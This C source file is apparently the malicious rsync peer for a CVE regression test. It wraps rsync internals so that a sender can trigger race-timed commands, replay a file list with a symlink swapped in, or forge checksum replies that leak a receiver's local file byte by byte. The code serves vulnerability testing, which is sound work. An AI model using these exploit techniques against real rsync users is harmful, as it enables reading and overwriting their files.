/* SPDX-License-Identifier: ISC */
/*
 * The malicious peer of tests/rsync/test_cve.sh: an old rsync, linked with these replacements, that does what
 * no stock rsync would do to another. tests/rsync/attacker builds it from whichever release is available. ATTACK in its
 * environment says what:
 *
 *   ask    runs $ATTACK_RUN when it knows the file list, before it asks for the first file
 *   open   runs it when it was asked for the file named $ATTACK_FILE, before it sends anything of it
 *   data   runs it when it has announced that file, before it sends the content
 *   list   runs it before it sends the list of the directory d/sub
 *   twice  sends the list of d twice, the second time with a link to $ATTACK_TO for d/sub; then as open
 *   leak   is asked for files named POSITION-CHARACTER, and claims that each has the one byte at POSITION of the other
 *          side's own file $ATTACK_TO, and that this is CHARACTER. The other side asks again where it is not; what it
 *          asked for once is written to $ATTACK_RUN.
 *
 * $ATTACK_RUN is the attacker's second foot: a local user who may write in the tree, and swaps names in it.
 */
#define send_extra_file_list stock_send_extra_file_list
#include "flist.c"
#undef send_extra_file_list

extern int checksum_seed;

/* The sum of one text, as it ends a file's content; how long it is. */
#ifdef SUM_BY_TYPE /* before 3.2.7 */
extern int xfersum_type;
static int sum_of(const char *text, char *digest)
{
	sum_init(xfersum_type, checksum_seed);
	sum_update(text, strlen(text));
	return sum_end(digest);
}
#else
extern int xfer_sum_len;
extern struct name_num_item *xfer_sum_nni;
static int sum_of(const char *text, char *digest)
{
	sum_init(xfer_sum_nni, checksum_seed);
	sum_update(text, strlen(text));
	sum_end(digest);
	return xfer_sum_len;
}
#endif

static const char *asked_for = "";

static int attack(const char *name)
{
	const char *wanted = getenv("ATTACK");
	return wanted && strcmp(wanted, name) == 0;
}

static const char *setting(const char *name)
{
	const char *value = getenv(name);
	return value ? value : "";
}

static void strike(const char *moment)
{
	if (attack(moment) && system(setting("ATTACK_RUN")) != 0)
		exit(99);
}

void __real_generate_files(int f_out, const char *local_name);
void __wrap_generate_files(int f_out, const char *local_name);
void __wrap_generate_files(int f_out, const char *local_name)
{
	strike("ask");
	__real_generate_files(f_out, local_name);
}

int __real_do_open(const char *pathname, int flags, mode_t mode);
int __wrap_do_open(const char *pathname, int flags, mode_t mode);
int __wrap_do_open(const char *pathname, int flags, mode_t mode)
{
	const char *slash = strrchr(pathname, '/');
	asked_for = strdup(slash ? slash + 1 : pathname);
	if (am_sender && strcmp(asked_for, setting("ATTACK_FILE")) == 0) {
		strike("open");
		strike("twice");
	}
	return __real_do_open(pathname, flags, mode);
}

/*
 * twice: of two entries with one name rsync keeps one, but only within a list. The first makes the directory, and its
 * list has a file asked for in it; the second finds it empty still, and makes the link instead.
 */

static void swap_sub(void)
{
	if (rename("d/sub", "../aside") != 0 || symlink(setting("ATTACK_TO"), "d/sub") != 0)
		exit(99);
}

static void swap_back(void)
{
	if (unlink("d/sub") != 0 || rename("../aside", "d/sub") != 0)
		exit(99);
}

static void send_again(int f, int dir_ndx)
{
	struct file_struct *dir = dir_flist->sorted[dir_ndx];
	struct file_list *list = flist_new(0, "send_again");
	write_ndx(f, NDX_FLIST_OFFSET - dir_ndx);
	list->parent_ndx = dir_ndx;
	swap_sub();
	send1extra(f, dir, list);
	swap_back();
	write_end_of_flist(f, 0);
	list->sorted = list->files;
	flist_sort_and_clean(list, 0);
	flist_done_allocating(list);
	file_total += list->used;
}

void send_extra_file_list(int f, int at_least);
void send_extra_file_list(int f, int at_least)
{
	static int done;
	if ((attack("twice") || attack("list")) && !done) {
		done = 1;
		/* One list at a time, until the next would be that of the subdirectory. */
		while (!flist_eof && strcmp(f_name(dir_flist->sorted[send_dir_ndx], NULL), "d/sub") != 0)
			stock_send_extra_file_list(f, -1);
		if (flist_eof)
			exit(99);
		io_flush(FULL_FLUSH);
		strike("list");
		if (attack("twice")) {
			int parent = DIR_PARENT(F_DIR_NODE_P(dir_flist->sorted[send_dir_ndx]));
			stock_send_extra_file_list(f, -1);
			send_again(f, parent);
		}
	}
	stock_send_extra_file_list(f, at_least);
}

/* leak: the answer names the file that the content is to be taken from, and the receiver believes it. */

/* By file index: how often it was asked for, and its name. */
static struct {
	int times;
	char *name;
} requests[4096];
static int claiming;

static void write_down(void)
{
	FILE *out = fopen(setting("ATTACK_RUN"), "w");
	if (!out)
		exit(99);
	for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); i++)
		if (requests[i].times == 1)
			fprintf(out, "%s\n", requests[i].name);
	fclose(out);
}

int __real_read_ndx_and_attrs(int f_in, int f_out, int *iflags, uchar *type, char *name, int *length);
int __wrap_read_ndx_and_attrs(int f_in, int f_out, int *iflags, uchar *type, char *name, int *length);
int __wrap_read_ndx_and_attrs(int f_in, int f_out, int *iflags, uchar *type, char *name, int *length)
{
	int ndx = __real_read_ndx_and_attrs(f_in, f_out, iflags, type, name, length);
	claiming = am_sender && attack("leak") && ndx >= 0 && ndx < 4096 && *iflags & ITEM_TRANSFER &&
		   ++requests[ndx].times == 1;
	if (claiming) {
		requests[ndx].name = strdup(cur_flist->files[ndx - cur_flist->ndx_start]->basename);
		*iflags |= ITEM_BASIS_TYPE_FOLLOWS | ITEM_XNAME_FOLLOWS;
		*type = FNAMECMP_FUZZY;
		*length = strlcpy(name, setting("ATTACK_TO"), MAXPATHLEN);
	}
	return ndx;
}

void __real_write_sum_head(int f, struct sum_struct *sum);
void __wrap_write_sum_head(int f, struct sum_struct *sum);
void __wrap_write_sum_head(int f, struct sum_struct *sum)
{
	if (claiming) {
		sum->count = atoi(asked_for) + 1;
		sum->blength = 1;
		sum->remainder = 0;
	}
	__real_write_sum_head(f, sum);
}

void __real_match_sums(int f, struct sum_struct *sum, struct map_struct *map, OFF_T length);
void __wrap_match_sums(int f, struct sum_struct *sum, struct map_struct *map, OFF_T length);
void __wrap_match_sums(int f, struct sum_struct *sum, struct map_struct *map, OFF_T length)
{
	char digest[MAX_DIGEST_LEN];
	if (claiming) {
		write_int(f, -(atoi(asked_for) + 1));
		write_int(f, 0);
		write_buf(f, digest, sum_of(strchr(asked_for, '-') + 1, digest));
		/* Nothing that the sender does later counts this sum. */
		sum->count = 0;
		return;
	}
	if (strcmp(asked_for, setting("ATTACK_FILE")) == 0 && attack("data")) {
		io_flush(FULL_FLUSH);
		strike("data");
	}
	__real_match_sums(f, sum, map, length);
}

void __real_match_report(void);
void __wrap_match_report(void);
void __wrap_match_report(void)
{
	if (attack("leak"))
		write_down();
	__real_match_report();
}
